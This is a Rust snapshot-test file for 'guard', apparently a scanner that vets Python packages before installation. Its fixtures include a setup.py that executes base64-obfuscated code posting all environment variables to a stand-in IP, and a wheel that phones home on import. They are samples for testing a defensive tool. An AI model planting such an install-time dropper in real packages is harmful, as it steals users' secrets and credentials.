//! What a user sees (issue 14): the real binary's exit status, stdout and
//! stderr for `guard scan` (human and JSON), `guard install --dry-run`, the
//! review prompt and `guard policy check`, as insta snapshots in
//! `tests/snapshots/`. Temp paths, ports, hashes of per-run files, timings
//! and the interpreter version are filtered so the snapshots are stable.
//! Review a change with `cargo insta review`; CI runs with `CI=true`, where a
//! mismatch fails and nothing is written.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::artifacts::{sdist_files, wheel_files};
use common::env::{Env, Pip};
use common::{isolated_install, wheel, Fault, Index};

const DROPPER: &str = "import base64, os\nfrom setuptools import setup\n\
exec(base64.b64decode('aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KCdodHRwOi8vMTk4LjUxLjEwMC43L2MnLCBkYXRhPWRpY3Qob3MuZW52aXJvbikpCg=='))\n\
setup(name='foo', version='1.0')\n";

/// Exit status, stdout and stderr in one text, the way uv's `uv_snapshot!` shows them.
fn transcript(out: &Output) -> String {
    format!(
        "success: {}\nexit_code: {}\n----- stdout -----\n{}\n----- stderr -----\n{}",
        out.status.success(),
        out.status.code().map_or("signal".to_string(), |c| c.to_string()),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Filters for what changes from run to run; `dir` is the test's temp dir.
fn settings(dir: &Path) -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.set_snapshot_path("snapshots");
    s.set_prepend_module_to_snapshot(false);
    s.add_filter(&regex_escape(&dir.display().to_string()), "[TEMP]");
    s.add_filter(r"127\.0\.0\.1:\d+", "[SERVER]");
    s.add_filter(r"\b\d+(\.\d+)? ?(ms|s)\b", "[TIME]");
    s.add_filter(r"Python \d+\.\d+(\.\d+)?", "Python [VERSION]");
    s.add_filter(r#""version": "3\.\d+(\.\d+)?""#, r#""version": "[VERSION]""#);
    s.add_filter(r#""seconds": [0-9.e-]+"#, r#""seconds": [TIME]"#);
    s.add_filter(r#""executable": "[^"]*""#, r#""executable": "[PYTHON]""#);
    s.add_filter(r"(Python \[VERSION\]) \([^)]*\)", "$1 ([PYTHON])");
    s.add_filter(r"\b[0-9a-f]{64}\b", "[SHA256]");
    s.add_filter(r"\x1b\[[0-9;?]*[A-Za-z]", "");
    s.add_filter(r"\r", "");
    s
}

fn regex_escape(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '/' || c == '_' || c == '-' {
                c.to_string()
            } else {
                format!("\\{c}")
            }
        })
        .collect()
}

fn guard(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_guard"))
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .env("GUARD_SYSTEM_POLICY", dir.join("no-system-policy.toml"))
        .env("GUARD_CONFIG_DIR", dir.join("config"))
        .output()
        .expect("guard runs")
}

/// A benign wheel and a dropper sdist in `dir`.
fn two_artifacts(dir: &Path) {
    std::fs::write(
        dir.join("clean-1.0-py3-none-any.whl"),
        wheel_files(
            "clean",
            "1.0",
            &[("clean/__init__.py", b"def add(a, b):\n    return a + b\n")],
        ),
    )
    .unwrap();
    std::fs::write(
        dir.join("foo-1.0.tar.gz"),
        sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
    )
    .unwrap();
}

#[test]
fn scan_human() {
    let dir = tempfile::tempdir().unwrap();
    two_artifacts(dir.path());
    let out = guard(dir.path(), &["scan", "clean-1.0-py3-none-any.whl", "foo-1.0.tar.gz"]);
    settings(dir.path()).bind(|| insta::assert_snapshot!("scan_human", transcript(&out)));
}

#[test]
fn scan_json() {
    let dir = tempfile::tempdir().unwrap();
    two_artifacts(dir.path());
    let out = guard(
        dir.path(),
        &[
            "scan",
            "--format",
            "json",
            "clean-1.0-py3-none-any.whl",
            "foo-1.0.tar.gz",
        ],
    );
    settings(dir.path()).bind(|| insta::assert_snapshot!("scan_json", transcript(&out)));
}

fn dry_run_index() -> Index {
    let index = Index::start();
    index.add("app", wheel("app", "1.0", &["lib>=1"]), Fault::None);
    index.add("lib", wheel("lib", "1.2", &[]), Fault::None);
    index.add(
        "foo",
        (
            "foo-1.0.tar.gz".into(),
            sdist_files("foo", "1.0", &[("setup.py", DROPPER)]),
        ),
        Fault::None,
    );
    index
}

/// `guard install --dry-run [--format json] app foo` against a local index.
fn dry_run(dir: &Path, format: &str) -> Output {
    let index = dry_run_index();
    isolated_install(&index.url(), dir)
        .current_dir(dir)
        .args([
            "--dry-run",
            "--format",
            format,
            "--ignore-installed",
            "--python",
            "python3",
        ])
        .arg("--cache-dir")
        .arg(dir.join("cache"))
        .args(["--timeout", "5", "app", "foo"])
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

#[test]
fn install_dry_run() {
    let dir = tempfile::tempdir().unwrap();
    let out = dry_run(dir.path(), "human");
    settings(dir.path()).bind(|| insta::assert_snapshot!("install_dry_run", transcript(&out)));
}

#[test]
fn install_dry_run_json() {
    let dir = tempfile::tempdir().unwrap();
    let out = dry_run(dir.path(), "json");
    settings(dir.path()).bind(|| insta::assert_snapshot!("install_dry_run_json", transcript(&out)));
}

/// The review prompt on a terminal, answered "no": nothing is installed.
#[test]
fn confirm_prompt() {
    let env = Env::new(Pip::Recording);
    // Phones home at import: `install-network`, raised to high by the policy → review.
    let (name, bytes) = common::artifacts::Package::new("phone-home", "1.0")
        .headers("Summary: fixture\nAuthor: Test\n")
        .file(
            "phone_home/__init__.py",
            "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/ping')\n",
        )
        .wheel();
    env.index.add("phone-home", (name, bytes), Fault::None);
    std::fs::write(
        env.project().join("guard.toml"),
        "[rules]\nseverity = { \"install-network\" = \"high\" }\n",
    )
    .unwrap();
    // `-q`: no progress bars, whose frames depend on timing.
    let (code, text) = env.guard_on_tty(&["-q", "phone-home"], "n\n");
    assert!(env.pip_requirements().is_none(), "pip ran after `no`");
    let text = format!("exit_code: {code:?}\n----- terminal -----\n{text}");
    settings(env.dir.path()).bind(|| insta::assert_snapshot!("confirm_prompt", text));
}

#[test]
fn policy_check() {
    let dir = tempfile::tempdir().unwrap();
    let ok = dir.path().join("guard.toml");
    std::fs::write(
        &ok,
        "[verdict]\nreview_at = \"medium\"\n[rules]\ndisable = [\"metadata-signals\"]\n\
         [install]\nmin_release_age = \"2d\"\nindex_hosts = [\"pypi.org\"]\n\
         [[allow]]\nname = \"internal-tools\"\nversion = \"2.4.1\"\nreason = \"ours\"\nexpires = 2001-01-01\n",
    )
    .unwrap();
    let bad = dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        "colour = 1\nlocked = [\"install.installer\"]\n[install]\nsdist = \"maybe\"\n[[allow]]\nname = \"x\"\n",
    )
    .unwrap();
    let text = [
        guard(dir.path(), &["policy", "check", "guard.toml"]),
        guard(dir.path(), &["policy", "check", "bad.toml"]),
        guard(dir.path(), &["policy", "check"]),
    ]
    .iter()
    .map(transcript)
    .collect::<Vec<_>>()
    .join("\n=====\n");
    settings(dir.path()).bind(|| insta::assert_snapshot!("policy_check", text));
}
